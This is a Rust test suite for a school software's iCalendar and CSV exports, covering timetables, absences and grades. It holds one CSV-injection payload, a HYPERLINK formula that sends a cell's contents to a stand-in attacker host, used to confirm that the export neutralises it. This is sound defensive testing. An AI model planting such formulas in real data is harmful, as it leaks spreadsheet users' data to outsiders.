//! `carnet export`: timetables as iCalendar, absences and grades as CSV, on the demo
//! collège with exceptions of every kind added, on both backends.
//!
//! Every iCalendar file is read back by independent parsers (Python's `icalendar` and
//! `recurring_ical_events`, through tests/support/ical_occurrences.py), and the lessons
//! they expand over the school year must be exactly the timetable's own occurrences:
//! start and end instants, subject and room, with holidays, cancellations, moves, room
//! changes, a substitute teacher, an extra lesson, weeks A and B with a hand-set week,
//! chosen weeks and a course ended in the year. The CSV files are read back with the
//! `csv` crate and compared with the aggregates.
#![allow(clippy::unwrap_used)]

use std::collections::{BTreeSet, HashMap};
use std::path::Path;
use std::process::Command;
use std::sync::Mutex;

use carnet::demo::{self, DemoOptions, EstablishmentReport};
use carnet_domain::attendance::{
    AttendanceCommand as A, AttendancePolicy, Status, StudentAttendance,
};
use carnet_domain::calendar::{monday_of, WeekLabel};
use carnet_domain::enrolment::{Establishment, Identity, Ine, SchoolYear, StudentCommand};
use carnet_domain::grades::{EvaluationSpec, Gradebook, GradebookCommand as G, Mark, NotHandedIn};
use carnet_domain::timetable::{
    CourseSpec, ExtraLesson, Occurrence, OccurrenceKind, Timetable, TimetableCommand as T,
    WeekPattern,
};
use carnet_domain::Uai;
use carnet_importers::export::{absences, grades, ical, CsvOptions, Language, Scope, ERASED};
use carnet_store::testing::TestStore;
use carnet_store::{BackendKind, CommandContext, School};
use chrono::{Datelike, Duration, NaiveDate, NaiveTime, Utc, Weekday};
use rust_decimal::Decimal;
use serde::Deserialize;

const STUDENTS: usize = 100;
const YEAR: &str = "2026-2027";
const HALL: &str = "Salle polyvalente";
const SUBSTITUTE: &str = "rempl01";

fn d(y: i32, m: u32, day: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, day).unwrap()
}

fn t(h: u32, m: u32) -> NaiveTime {
    NaiveTime::from_hms_opt(h, m, 0).unwrap()
}

/// The demo, with the exceptions the demo does not make, and what the tests need to know.
struct Fixture {
    ts: TestStore,
    report: EstablishmentReport,
    school: School,
    year: SchoolYear,
    /// The division everything happens to.
    division: String,
    /// A student of it, in groups.
    student: String,
    /// The teacher whose lesson was moved.
    teacher: String,
    /// The usual room of the lesson moved to the hall.
    room: String,
}

async fn fixture(kind: BackendKind) -> Fixture {
    let ts = TestStore::new(kind).await;
    let report = demo::load(
        &ts.store,
        &DemoOptions {
            students: STUDENTS,
            seed: 11,
        },
    )
    .await
    .unwrap()
    .remove(0);
    let uai = Uai::parse(&report.uai).unwrap();
    let school = School::new(ts.store.clone(), uai, AttendancePolicy::default());
    let year = SchoolYear::parse(YEAR).unwrap();
    let (_, tt) = school.timetable.state(YEAR).await.unwrap();
    let (_, establishment) = school
        .establishment
        .state(&school.establishment_id())
        .await
        .unwrap();
    let division = establishment.years[&year]
        .divisions
        .keys()
        .next()
        .unwrap()
        .clone();
    let mut student = None;
    for n in 1..=STUDENTS {
        let id = format!("eleve{n:05}");
        let (_, s) = school.students.state(&id).await.unwrap();
        if s.placement_on(d(2026, 9, 1))
            .is_some_and(|p| p.division == division && !p.groups.is_empty())
        {
            student = Some(id);
            break;
        }
    }
    let student = student.expect("a student of the division in groups");

    // Whole-class lessons of every week after the demo's own exceptions, one per course.
    let mut seen = BTreeSet::new();
    let lessons: Vec<Occurrence> = tt
        .for_division(d(2026, 12, 1), d(2027, 2, 12), &division)
        .into_iter()
        .filter(|o| {
            o.kind == OccurrenceKind::Regular
                && o.cancelled.is_none()
                && o.divisions.contains(&division)
                && tt.course(&o.course).unwrap().weeks == WeekPattern::Every
                && o.date.weekday() != Weekday::Wed
                && seen.insert(o.course.clone())
        })
        .collect();
    assert!(lessons.len() >= 5, "{lessons:?}");
    let (moved, replaced, rehoused, cancelled, ended) = (
        &lessons[0],
        &lessons[1],
        &lessons[2],
        &lessons[3],
        &lessons[4],
    );
    let teacher = moved.teachers[0].clone();
    let room = rehoused.room.clone().unwrap();
    let wednesday = monday_of(moved.date) + Duration::days(2);
    let cal = tt.calendar().unwrap();
    let late_may = d(2027, 5, 24);
    let label = cal.week_label(late_may).unwrap();
    let commands = vec![
        T::MoveOccurrence {
            course: moved.course.clone(),
            date: moved.date,
            to_date: wednesday,
            start: t(16, 0),
            end: t(16, 55),
            room: None,
        },
        T::ReplaceTeacher {
            course: replaced.course.clone(),
            date: replaced.date,
            teachers: vec![SUBSTITUTE.into()],
        },
        T::ChangeRoom {
            course: rehoused.course.clone(),
            date: rehoused.date,
            room: HALL.into(),
        },
        T::CancelOccurrence {
            course: cancelled.course.clone(),
            date: cancelled.date,
            reason: "Sortie pédagogique; car, musée".into(),
        },
        T::EndCourse {
            id: ended.course.clone(),
            last_day: d(2027, 3, 31),
        },
        T::AddExtraLesson(ExtraLesson {
            id: "rattrapage-1".into(),
            date: d(2026, 12, 16),
            start: t(14, 0),
            end: t(15, 30),
            subject: "MATHS".into(),
            teachers: vec![teacher.clone()],
            divisions: vec![division.clone()],
            groups: vec![],
            room: Some(HALL.into()),
        }),
        T::AddCourse(CourseSpec {
            id: "soutien-brevet".into(),
            weekday: Weekday::Wed,
            start: t(13, 30),
            end: t(14, 25),
            subject: "FRANC".into(),
            teachers: vec![teacher.clone()],
            divisions: vec![division.clone()],
            groups: vec![],
            room: Some(HALL.into()),
            weeks: WeekPattern::Weeks(BTreeSet::from([
                d(2027, 1, 4),
                d(2027, 1, 11),
                d(2027, 2, 1),
                d(2027, 3, 8),
                // A holiday week: the course has no lesson in it.
                d(2027, 4, 19),
            ])),
            valid_from: d(2026, 9, 1),
            valid_to: d(2027, 7, 3),
        }),
        // Weeks A and B swap from late May: the alternation a bare INTERVAL=2 gets wrong.
        T::SetWeekLabel {
            monday: late_may,
            label: match label {
                WeekLabel::A => WeekLabel::B,
                WeekLabel::B => WeekLabel::A,
            },
        },
    ];
    let context = CommandContext::default();
    for command in commands {
        school
            .timetable
            .execute(YEAR, command.clone(), &context)
            .await
            .unwrap_or_else(|e| panic!("{command:?}: {e}"));
    }
    Fixture {
        ts,
        report,
        school,
        year,
        division,
        student,
        teacher,
        room,
    }
}

async fn scope(f: &Fixture) -> Scope<'_> {
    Scope::open(&f.school, Some(YEAR), d(2026, 12, 3))
        .await
        .unwrap()
}

// ---------------------------------------------------------------- iCalendar

/// One lesson as a calendar shows it.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
struct Shown {
    start: String,
    end: String,
    summary: String,
    location: Option<String>,
}

/// Installs the Python parsers once if they are missing (CI installs them first).
fn python_parsers() {
    static READY: Mutex<bool> = Mutex::new(false);
    let mut ready = READY.lock().unwrap_or_else(|e| e.into_inner());
    if *ready {
        return;
    }
    let present = || {
        Command::new("python3")
            .args(["-c", "import icalendar, recurring_ical_events"])
            .status()
            .is_ok_and(|s| s.success())
    };
    if !present() {
        let status = Command::new("python3")
            .args([
                "-m",
                "pip",
                "install",
                "--quiet",
                "icalendar",
                "recurring_ical_events",
            ])
            .status();
        assert!(
            status.is_ok_and(|s| s.success()) && present(),
            "this test needs Python 3 with `icalendar` and `recurring_ical_events` \
             (python3 -m pip install icalendar recurring_ical_events)"
        );
    }
    *ready = true;
}

/// The lessons the independent parsers expand from `ics` over the school year.
fn expand(ics: &str, name: &str) -> Vec<Shown> {
    python_parsers();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join(format!("{name}.ics"));
    std::fs::write(&file, ics).unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/ical_occurrences.py");
    let out = Command::new("python3")
        .arg(&script)
        .arg(&file)
        .args(["2026-09-01", "2027-07-03"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{name}: the parsers refused the file: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut shown: Vec<Shown> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    shown.sort();
    shown
}

fn subject_name(establishment: &Establishment, subject: &str) -> String {
    establishment
        .subjects
        .values()
        .find(|s| s.short == subject)
        .map_or_else(|| subject.to_string(), |s| s.name.clone())
}

/// Carnet's lessons as a calendar should show them: those that take place.
fn expected(establishment: &Establishment, lessons: &[Occurrence]) -> Vec<Shown> {
    let mut shown: Vec<Shown> = lessons
        .iter()
        .filter(|o| o.cancelled.is_none())
        .map(|o| Shown {
            start: o.start_utc.format("%Y-%m-%dT%H:%M:%SZ").to_string(),
            end: o.end_utc.format("%Y-%m-%dT%H:%M:%SZ").to_string(),
            summary: subject_name(establishment, &o.subject),
            location: o.room.clone(),
        })
        .collect();
    shown.sort();
    shown
}

fn same(name: &str, got: &[Shown], want: &[Shown]) {
    if got == want {
        return;
    }
    let got_set: BTreeSet<&Shown> = got.iter().collect();
    let want_set: BTreeSet<&Shown> = want.iter().collect();
    let missing: Vec<_> = want_set.difference(&got_set).take(5).collect();
    let extra: Vec<_> = got_set.difference(&want_set).take(5).collect();
    panic!(
        "{name}: the calendar shows {} lessons, Carnet has {}\nmissing: {missing:#?}\nextra: {extra:#?}",
        got.len(),
        want.len()
    );
}

async fn ical_matches_the_timetable(kind: BackendKind) {
    let f = fixture(kind).await;
    let scope = scope(&f).await;
    let tt: Timetable = scope.timetable().await.unwrap();
    let (first, last) = (d(2026, 9, 1), d(2027, 7, 3));
    let (_, student) = f.school.students.state(&f.student).await.unwrap();
    let placement = student.placement_on(first).unwrap();
    let cases: Vec<(ical::Whose, Vec<Occurrence>)> = vec![
        (
            ical::Whose::Student(f.student.clone()),
            tt.for_student(first, last, &placement.division, &placement.groups),
        ),
        (
            ical::Whose::Teacher(f.teacher.clone()),
            tt.for_teacher(first, last, &f.teacher),
        ),
        (
            ical::Whose::Teacher(SUBSTITUTE.into()),
            tt.for_teacher(first, last, SUBSTITUTE),
        ),
        (
            ical::Whose::Room(f.room.clone()),
            tt.for_room(first, last, &f.room),
        ),
        (
            ical::Whose::Room(HALL.into()),
            tt.for_room(first, last, HALL),
        ),
        (
            ical::Whose::Division(f.division.clone()),
            tt.for_division(first, last, &f.division),
        ),
    ];
    let stamp = Utc::now();
    for (whose, lessons) in cases {
        let name = whose.to_string();
        let ics = ical::export(&scope, &whose, stamp).await.unwrap();
        assert!(ics.starts_with("BEGIN:VCALENDAR\r\n"), "{name}");
        assert!(
            ics.contains("BEGIN:VTIMEZONE\r\nTZID:Europe/Paris\r\n"),
            "{name}"
        );
        let want = expected(&scope.establishment, &lessons);
        assert!(!want.is_empty(), "{name} has lessons");
        same(&name, &expand(&ics, &name), &want);
        if let ical::Whose::Division(_) = whose {
            // Everything the division's year holds is in its file, as RFC 5545 writes it.
            for part in [
                "RRULE:FREQ=WEEKLY;UNTIL=",
                "RRULE:FREQ=WEEKLY;INTERVAL=2;UNTIL=",
                "EXDATE;TZID=Europe/Paris:",
                "RDATE;TZID=Europe/Paris:",
                "RECURRENCE-ID;TZID=Europe/Paris:",
                "UID:soutien-brevet/2026-2027@",
                "UID:rattrapage-1/2026-2027@",
                &format!("LOCATION:{HALL}"),
            ] {
                assert!(ics.contains(part), "{name}: no {part}\n{ics}");
            }
            // The division sees the cancelled lesson excluded, the moved one moved.
            assert!(lessons.iter().any(|o| o.cancelled.is_some()));
            assert!(lessons
                .iter()
                .any(|o| matches!(o.kind, OccurrenceKind::Moved { .. })));
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ical_exports_expand_to_the_timetables_occurrences_on_postgres() {
    ical_matches_the_timetable(BackendKind::Postgres).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ical_exports_expand_to_the_timetables_occurrences_on_sqlite() {
    ical_matches_the_timetable(BackendKind::Sqlite).await;
}

// ---------------------------------------------------------------- CSV

/// Three students of our own with the names spreadsheets mangle, their absences and
/// marks; the third is then erased.
async fn csv_people(f: &Fixture) -> (Vec<Occurrence>, String) {
    let (_, tt) = f.school.timetable.state(YEAR).await.unwrap();
    let lessons: Vec<Occurrence> = tt
        .for_division(d(2027, 1, 4), d(2027, 1, 8), &f.division)
        .into_iter()
        .filter(|o| o.cancelled.is_none() && o.divisions.contains(&f.division))
        .take(2)
        .collect();
    let context = CommandContext {
        actor: Some("cpe1".into()),
        ..CommandContext::default()
    };
    let people = [
        ("eleve90001", "100090001AB", "N'Guessan", "Hélène"),
        ("eleve90002", "100090002AB", "Œdipe", "Zoë"),
        ("eleve90003", "100090003AB", "Lefèvre", "Jean-Baptiste"),
    ];
    for (id, ine, last, first) in people {
        f.school
            .students
            .execute(
                id,
                StudentCommand::Admit {
                    student: id.into(),
                    identity: Identity {
                        ine: Ine::parse(ine).unwrap(),
                        last_name: last.into(),
                        first_name: first.into(),
                        birth_date: d(2012, 5, 3),
                    },
                    year: f.year.clone(),
                    division: f.division.clone(),
                    groups: vec![],
                    on: d(2026, 9, 1),
                },
                &context,
            )
            .await
            .unwrap();
    }
    let record = |student: &str, lesson: &Occurrence, status| A::RecordAttendance {
        student: student.into(),
        lesson: lesson.id.clone(),
        date: lesson.date,
        start: lesson.start.time(),
        end: lesson.end.time(),
        status,
        by: "cpe1".into(),
        notify: vec![],
    };
    let attendance = |student: &str| School::attendance_id(&f.year, student);
    let run = [
        (
            attendance("eleve90001"),
            record("eleve90001", &lessons[0], Status::Absent),
        ),
        (
            attendance("eleve90001"),
            A::DeclareJustification {
                student: "eleve90001".into(),
                justification: "j-90001".into(),
                from: lessons[0].date,
                to: lessons[0].date,
                reason: "MAL".into(),
                comment: "Certificat du Dr Ünal; fièvre, « grippe »".into(),
                by: "resp90001".into(),
            },
        ),
        (
            attendance("eleve90001"),
            A::DecideJustification {
                justification: "j-90001".into(),
                accept: true,
                by: "cpe1".into(),
                note: String::new(),
            },
        ),
        (
            attendance("eleve90002"),
            record("eleve90002", &lessons[1], Status::Absent),
        ),
        (
            attendance("eleve90002"),
            A::CorrectAttendance {
                lesson: lessons[1].id.clone(),
                status: Status::Late { minutes: 7 },
                by: "cpe1".into(),
                reason: "arrivée avec un mot du bus".into(),
                notify: vec![],
            },
        ),
        // A guardian's comment that a spreadsheet would run as a formula (issue 17).
        (
            attendance("eleve90002"),
            A::DeclareJustification {
                student: "eleve90002".into(),
                justification: "j-90002".into(),
                from: lessons[1].date,
                to: lessons[1].date,
                reason: "MAL".into(),
                comment: FORMULA.into(),
                by: "resp90002".into(),
            },
        ),
        (
            attendance("eleve90003"),
            record("eleve90003", &lessons[0], Status::Absent),
        ),
    ];
    for (stream, command) in run {
        f.school
            .attendance
            .execute(&stream, command.clone(), &context)
            .await
            .unwrap_or_else(|e| panic!("{command:?}: {e}"));
    }
    let book = School::gradebook_id(&f.year, &f.division, "T2");
    let title = "Contrôle n°2; fractions, « équations »".to_string();
    let grading = [
        G::CreateEvaluation(EvaluationSpec {
            evaluation: "eval-90000".into(),
            class: f.division.clone(),
            period: "T2".into(),
            subject: "MATHS".into(),
            teacher: f.teacher.clone(),
            title: title.clone(),
            date: d(2027, 1, 12),
            scale: Decimal::from(20),
            coefficient: Decimal::new(15, 1),
            bonus: false,
            not_handed_in: NotHandedIn::CountsAsZero,
            competences: Vec::new(),
        }),
        G::EnterMark {
            evaluation: "eval-90000".into(),
            student: "eleve90001".into(),
            mark: Mark::Score(Decimal::new(145, 1)),
            by: f.teacher.clone(),
        },
        G::EnterMark {
            evaluation: "eval-90000".into(),
            student: "eleve90002".into(),
            mark: Mark::Absent,
            by: f.teacher.clone(),
        },
        G::EnterMark {
            evaluation: "eval-90000".into(),
            student: "eleve90003".into(),
            mark: Mark::Score(Decimal::from(9)),
            by: f.teacher.clone(),
        },
        G::CorrectMark {
            evaluation: "eval-90000".into(),
            student: "eleve90001".into(),
            mark: Mark::Score(Decimal::from(15)),
            by: f.teacher.clone(),
            reason: "erreur de report".into(),
        },
    ];
    for command in grading {
        f.school
            .gradebooks
            .execute(&book, command.clone(), &context)
            .await
            .unwrap_or_else(|e| panic!("{command:?}: {e}"));
    }
    f.school
        .erase_person("eleve90003", "request of 2027-01-20", &context)
        .await
        .unwrap();
    (lessons, title)
}

/// The rows of a CSV export, by the English name of each column (`keys`, in the order of
/// `header`); checks the BOM and the header.
fn read_csv(
    bytes: &[u8],
    separator: u8,
    bom: bool,
    header: &[&str],
    keys: &[&str],
) -> Vec<HashMap<String, String>> {
    assert_eq!(header.len(), keys.len());
    assert_eq!(bytes.starts_with("\u{feff}".as_bytes()), bom);
    let body = if bom { &bytes[3..] } else { bytes };
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(separator)
        .from_reader(body);
    let columns: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(columns, header);
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            assert_eq!(r.len(), columns.len());
            keys.iter()
                .map(|k| k.to_string())
                .zip(r.iter().map(str::to_string))
                .collect()
        })
        .collect()
}

/// What the export writes for an entry, in French (the default).
fn kind_of(status: &Status) -> (&'static str, String) {
    match status {
        Status::Present => ("Présence", String::new()),
        Status::Absent => ("Absence", String::new()),
        Status::Late { minutes } => ("Retard", minutes.to_string()),
        Status::EarlyDeparture { .. } => ("Départ anticipé", String::new()),
        Status::Excluded => ("Exclusion de cours", String::new()),
    }
}

/// A formula as a CSV injection attack writes it (OWASP "CSV Injection").
const FORMULA: &str = "=HYPERLINK(\"http://attaquant.example/?\"&A1,\"Certificat\")";

async fn csv_reads_back(kind: BackendKind) {
    let f = fixture(kind).await;
    let (lessons, title) = csv_people(&f).await;
    let scope = scope(&f).await;

    // Absences, as French Excel wants them: French column names and words by default.
    let options = CsvOptions {
        bom: true,
        ..CsvOptions::default()
    };
    assert_eq!(
        (options.separator, options.decimal_comma, options.language),
        (b';', true, Language::French)
    );
    let mut out = Vec::new();
    let count = absences::export(&scope, &AttendancePolicy::default(), &options, &mut out)
        .await
        .unwrap();
    assert!(out.starts_with("\u{feff}Date;Début;Fin;Demi-journée;".as_bytes()));
    let rows = read_csv(&out, b';', true, &absences::HEADER_FR, &absences::HEADER);
    assert_eq!(rows.len(), count);
    assert_eq!(rows.len(), f.report.attendance_entries + 3);
    // Every row is its aggregate's entry.
    let mut records: HashMap<String, StudentAttendance> = HashMap::new();
    for row in &rows {
        let student = &row["student"];
        if !records.contains_key(student) {
            let (_, r) = f
                .school
                .attendance
                .state(&School::attendance_id(&f.year, student))
                .await
                .unwrap();
            records.insert(student.clone(), r);
        }
        let entry = &records[student].lessons[&row["lesson"]];
        assert_eq!(row["date"], entry.date.to_string());
        assert_eq!(row["start"], entry.start.format("%H:%M").to_string());
        let (kind, minutes) = kind_of(&entry.status);
        assert_eq!(
            (row["kind"].as_str(), &row["late_minutes"]),
            (kind, &minutes)
        );
        let justified = records[student].is_justified(&entry.half_day);
        assert_eq!(row["justified"], if justified { "oui" } else { "non" });
        assert!(
            ["Matin", "Après-midi"].contains(&row["half_day"].as_str()),
            "{row:?}"
        );
    }
    let by = |student: &str| rows.iter().find(|r| r["student"] == student).unwrap();
    let helene = by("eleve90001");
    assert_eq!(
        (helene["last_name"].as_str(), helene["first_name"].as_str()),
        ("N'Guessan", "Hélène")
    );
    assert_eq!(helene["division"], f.division);
    assert_eq!(helene["lesson"], lessons[0].id);
    assert_eq!(helene["kind"], "Absence");
    assert_eq!(helene["justified"], "oui");
    assert_eq!(helene["reason_code"], "MAL");
    assert_eq!(helene["reason"], "Maladie");
    assert_eq!(
        helene["comment"],
        "Certificat du Dr Ünal; fièvre, « grippe »"
    );
    assert_eq!(helene["cpe_decision"], "Acceptée");
    let zoe = by("eleve90002");
    assert_eq!(
        (zoe["last_name"].as_str(), zoe["first_name"].as_str()),
        ("Œdipe", "Zoë")
    );
    assert_eq!(
        (zoe["kind"].as_str(), zoe["late_minutes"].as_str()),
        ("Retard", "7")
    );
    assert_eq!(zoe["corrected_from"], "Absence");
    // Written as text: the spreadsheet shows it and never runs it.
    assert_eq!(zoe["comment"], format!("'{FORMULA}"));
    assert_eq!(zoe["justified"], "non");
    // Declared by the guardian, not decided yet.
    assert_eq!(zoe["cpe_decision"], "En attente");
    let erased = by("eleve90003");
    assert_eq!(
        (erased["last_name"].as_str(), erased["first_name"].as_str()),
        (ERASED, ERASED)
    );
    assert_eq!(
        (erased["kind"].as_str(), erased["division"].as_str()),
        ("Absence", f.division.as_str())
    );

    // The same absences with English column names and words, on request.
    let english = CsvOptions {
        language: Language::English,
        ..options
    };
    let mut out = Vec::new();
    absences::export(&scope, &AttendancePolicy::default(), &english, &mut out)
        .await
        .unwrap();
    let english_rows = read_csv(&out, b';', true, &absences::HEADER, &absences::HEADER);
    assert_eq!(english_rows.len(), rows.len());
    let by_en = |student: &str| {
        english_rows
            .iter()
            .find(|r| r["student"] == student)
            .unwrap()
    };
    let helene = by_en("eleve90001");
    assert_eq!(
        (
            helene["kind"].as_str(),
            helene["justified"].as_str(),
            helene["cpe_decision"].as_str(),
            helene["reason_code"].as_str()
        ),
        ("absent", "yes", "accepted", "MAL")
    );
    assert!(["morning", "afternoon"].contains(&helene["half_day"].as_str()));
    let zoe = by_en("eleve90002");
    assert_eq!(
        (
            zoe["kind"].as_str(),
            zoe["corrected_from"].as_str(),
            zoe["justified"].as_str(),
            zoe["cpe_decision"].as_str()
        ),
        ("late", "absent", "no", "pending")
    );

    // Grades, the same way, then with commas and decimal points.
    let mut out = Vec::new();
    let count = grades::export(&scope, &options, &mut out).await.unwrap();
    let rows = read_csv(&out, b';', true, &grades::HEADER_FR, &grades::HEADER);
    assert_eq!(rows.len(), count);
    assert_eq!(rows.len(), f.report.marks + 3);
    let mut books: HashMap<String, Gradebook> = HashMap::new();
    for row in &rows {
        let id = School::gradebook_id(&f.year, &row["class"], &row["period"]);
        if !books.contains_key(&id) {
            let (_, b) = f.school.gradebooks.state(&id).await.unwrap();
            books.insert(id.clone(), b);
        }
        let e = &books[&id].evaluations[&row["evaluation"]];
        let mark = e.marks[&row["student"]].mark;
        match mark {
            Mark::Score(s) => {
                let score: Decimal = row["score"].replace(',', ".").parse().unwrap();
                assert_eq!(score, s, "{row:?}");
                assert_eq!(row["special_mark"], "");
            }
            other => {
                assert_eq!(row["score"], "");
                assert_eq!(row["special_mark"], other.to_string());
            }
        }
        assert_eq!(row["date"], e.date.to_string());
        assert_eq!(row["subject"], e.subject);
        let coefficient: Decimal = row["coefficient"].replace(',', ".").parse().unwrap();
        assert_eq!(coefficient, e.coefficient);
    }
    let by = |student: &str| rows.iter().find(|r| r["student"] == student).unwrap();
    let helene = by("eleve90001");
    assert_eq!(helene["first_name"], "Hélène");
    assert_eq!(helene["title"], title);
    assert_eq!(helene["subject_name"], "Mathématiques");
    assert_eq!(helene["period_name"], "2e trimestre");
    assert_eq!(
        (
            helene["score"].as_str(),
            helene["corrected"].as_str(),
            helene["previous_marks"].as_str()
        ),
        ("15", "oui", "14,5")
    );
    assert_eq!(helene["coefficient"], "1,5");
    let zoe = by("eleve90002");
    assert_eq!(
        (zoe["last_name"].as_str(), zoe["special_mark"].as_str()),
        ("Œdipe", "ABS")
    );
    let erased = by("eleve90003");
    assert_eq!(
        (erased["last_name"].as_str(), erased["score"].as_str()),
        (ERASED, "9")
    );

    let plain = CsvOptions {
        separator: b',',
        bom: false,
        decimal_comma: false,
        language: Language::English,
    };
    let mut out = Vec::new();
    grades::export(&scope, &plain, &mut out).await.unwrap();
    let rows = read_csv(&out, b',', false, &grades::HEADER, &grades::HEADER);
    let helene = rows.iter().find(|r| r["student"] == "eleve90001").unwrap();
    assert_eq!(
        (
            helene["coefficient"].as_str(),
            helene["previous_marks"].as_str(),
            helene["corrected"].as_str()
        ),
        ("1.5", "14.5", "yes")
    );
    assert_eq!(helene["title"], title);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_read_back_equal_to_the_aggregates_on_postgres() {
    csv_reads_back(BackendKind::Postgres).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_read_back_equal_to_the_aggregates_on_sqlite() {
    csv_reads_back(BackendKind::Sqlite).await;
}

// ---------------------------------------------------------------- bad input, the command

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_people_rooms_and_classes_are_refused_by_name() {
    let f = fixture(BackendKind::Sqlite).await;
    let scope = scope(&f).await;
    let stamp = Utc::now();
    for (whose, says) in [
        (
            ical::Whose::Student("eleve99999".into()),
            "no student `eleve99999`",
        ),
        (
            ical::Whose::Teacher("prof-inconnu".into()),
            "no teacher `prof-inconnu`",
        ),
        (ical::Whose::Room("Salle 999".into()), "room `Salle 999`"),
        (ical::Whose::Division("9e9".into()), "no division `9e9`"),
        (ical::Whose::Group("9e9-G1".into()), "no group `9e9-G1`"),
    ] {
        let error = ical::export(&scope, &whose, stamp)
            .await
            .unwrap_err()
            .to_string();
        assert!(error.contains(says), "{whose}: {error}");
    }
    let error = Scope::open(&f.school, Some("2031-2032"), d(2026, 12, 3))
        .await
        .unwrap_err()
        .to_string();
    assert!(
        error.contains("no school year 2031-2032") && error.contains(YEAR),
        "{error}"
    );

    // The command: a file for a division, and clear refusals.
    let carnet_store::Location::DataDir(dir) = &f.ts.location else {
        panic!("a SQLite test store lives in a data directory");
    };
    let carnet = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_carnet"))
            .args(args)
            .env("CARNET_DATA_DIR", dir)
            .env_remove("DATABASE_URL")
            .env("RUST_LOG", "error")
            .output()
            .unwrap()
    };
    let file = dir.join("division.ics");
    let out = carnet(&[
        "export",
        "ical",
        "--division",
        &f.division,
        "--year",
        YEAR,
        "-o",
        file.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let ics = std::fs::read_to_string(&file).unwrap();
    assert!(ics.contains("BEGIN:VEVENT") && ics.ends_with("END:VCALENDAR\r\n"));

    let out = carnet(&["export", "ical", "--student", "eleve99999", "--year", YEAR]);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("eleve99999"), "{stderr}");
    assert!(out.stdout.is_empty());

    let out = carnet(&["export", "ical", "--year", YEAR]);
    assert!(!out.status.success(), "whose timetable is required");

    let out = carnet(&["export", "absences-csv", "--separator", "ab"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && stderr.contains("separator"),
        "{stderr}"
    );

    // Made for French Excel by default: `;`, decimal comma, BOM.
    let out = carnet(&["export", "grades-csv", "--year", YEAR]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // French column names by default, English ones with `--lang en`.
    assert!(out
        .stdout
        .starts_with("\u{feff}Code période;Période;Classe ou groupe;".as_bytes()));
    let lines = String::from_utf8_lossy(&out.stdout).lines().count();
    assert_eq!(lines, f.report.marks + 1);
    let out = carnet(&[
        "export",
        "grades-csv",
        "--lang",
        "en",
        "--bom",
        "false",
        "--year",
        YEAR,
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.stdout.starts_with(b"period;period_name;class;"));
    let out = carnet(&["export", "absences-csv", "--lang", "de", "--year", YEAR]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && stderr.contains("lang") && stderr.contains("`de`"),
        "{stderr}"
    );
}
